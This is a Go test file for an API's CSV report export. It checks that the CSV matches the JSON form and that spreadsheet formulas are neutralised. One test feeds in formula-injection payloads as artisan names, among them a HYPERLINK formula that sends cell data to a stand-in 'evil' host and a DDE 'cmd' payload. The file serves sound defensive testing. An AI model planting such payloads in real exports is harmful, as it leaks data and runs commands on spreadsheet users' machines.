package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

// csvSections reads a report's CSV: sections separated by a blank line, each
// a header row and its rows (the first: field,value).
func csvSections(t *testing.T, body []byte) [][][]string {
	t.Helper()
	text, ok := strings.CutPrefix(string(body), "\ufeff")
	if !ok {
		t.Fatalf("the CSV has no byte-order mark: %q", body)
	}
	var out [][][]string
	for _, part := range strings.Split(strings.TrimSuffix(text, "\n"), "\n\n") {
		r := csv.NewReader(strings.NewReader(part))
		rows, err := r.ReadAll()
		if err != nil || len(rows) == 0 {
			t.Fatalf("CSV section %q: %v", part, err)
		}
		out = append(out, rows)
	}
	return out
}

// flatJSON flattens one JSON object the way the contract's CSV names
// figures: nested objects' keys joined by "_", Money as "<key>_rs" in rupees
// with two decimals, null as an empty cell. Arrays are returned apart.
func flatJSON(t *testing.T, prefix string, v map[string]any, into map[string]string, arrays map[string][]any) {
	t.Helper()
	for k, x := range v {
		key := prefix + k
		switch x := x.(type) {
		case map[string]any:
			if amount, ok := x["amount"].(json.Number); ok && len(x) == 2 {
				n, err := amount.Int64()
				if err != nil {
					t.Fatal(err)
				}
				sign := ""
				if n < 0 {
					sign, n = "-", -n
				}
				into[key+"_rs"] = sign + strconv.FormatInt(n/100, 10) + "." + strconv.FormatInt(n%100/10, 10) + strconv.FormatInt(n%10, 10)
				continue
			}
			flatJSON(t, key+"_", x, into, arrays)
		case []any:
			if arrays == nil {
				t.Fatalf("an array %s inside an array's item", key)
			}
			arrays[key] = x
		case nil:
			into[key] = ""
		case bool:
			into[key] = strconv.FormatBool(x)
		case json.Number:
			into[key] = x.String()
		case string:
			into[key] = x
		default:
			t.Fatalf("%s: %T", key, x)
		}
	}
}

// wantCSVParity checks that a report's CSV holds every figure of its JSON
// form: each scalar (nested objects flattened) as a field,value row of the
// first section, and each array as a section of its own whose rows hold
// every field of its items, in the same order.
func wantCSVParity(t *testing.T, jsonBody, csvBody []byte) {
	t.Helper()
	var doc map[string]any
	dec := json.NewDecoder(bytes.NewReader(jsonBody))
	dec.UseNumber()
	if err := dec.Decode(&doc); err != nil {
		t.Fatal(err)
	}
	figures, arrays := map[string]string{}, map[string][]any{}
	flatJSON(t, "", doc, figures, arrays)
	sections := csvSections(t, csvBody)
	summary := map[string]string{}
	if h := sections[0][0]; len(h) != 2 || h[0] != "field" || h[1] != "value" {
		t.Fatalf("the first section's header is %q", h)
	}
	for _, row := range sections[0][1:] {
		summary[row[0]] = row[1]
	}
	for k, want := range figures {
		if got, ok := summary[k]; !ok || got != want {
			t.Errorf("CSV %s = %q (present %v), JSON %q", k, got, ok, want)
		}
	}
	for name, items := range arrays {
		if len(items) == 0 {
			t.Fatalf("the JSON's %s is empty: the test proves nothing about it", name)
		}
		var table [][]string
		for _, s := range sections[1:] {
			if len(s) == len(items)+1 {
				first := map[string]string{}
				flatJSON(t, "", items[0].(map[string]any), first, nil)
				matches := 0
				for _, col := range s[0] {
					if _, ok := first[col]; ok {
						matches++
					}
				}
				if matches == len(first) {
					table = s
				}
			}
		}
		if table == nil {
			t.Errorf("no CSV section holds the %d items of %s", len(items), name)
			continue
		}
		for i, item := range items {
			fields := map[string]string{}
			flatJSON(t, "", item.(map[string]any), fields, nil)
			for c, col := range table[0] {
				if want, ok := fields[col]; ok && table[i+1][c] != want {
					t.Errorf("CSV %s[%d].%s = %q, JSON %q", name, i, col, table[i+1][c], want)
				}
			}
		}
	}
}

// A name that a spreadsheet would run as a formula is written as text: a
// leading ' on every cell that begins with =, +, -, @, a tab or a carriage
// return; the report's own numbers, negative ones included, stay numbers.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		f := newTwoGroups(e)
		manager := bearer(f.manager.AccessToken)
		// Names are trimmed when written, so a leading tab or carriage return
		// reaches the CSV writer only in its unit test (csv_internal_test.go).
		names := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"}
		for _, n := range names {
			e.do("POST", "/api/v1/groups/"+f.group.ID+"/artisans", map[string]any{"display_name": n, "full_name": "Test Bibi",
				"district": "=1+1", "gender": "woman"}, manager).wantStatus(t, 201)
		}
		names = append(names, "=1+1")
		res := e.do("GET", "/api/v1/audit/groups/"+f.group.ID+"/report?format=csv", nil, manager)
		res.wantStatus(t, 200)
		cells := map[string]bool{}
		for _, s := range csvSections(t, res.Body) {
			for _, row := range s {
				for _, c := range row {
					cells[c] = true
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && strings.Trim(c, "-0123456789.") != "" {
						t.Errorf("a cell begins with %q: %q", c[0], c)
					}
				}
			}
		}
		for _, n := range names {
			if !cells["'"+n] {
				t.Errorf("%q is not in the CSV as text", n)
			}
		}
	})
}
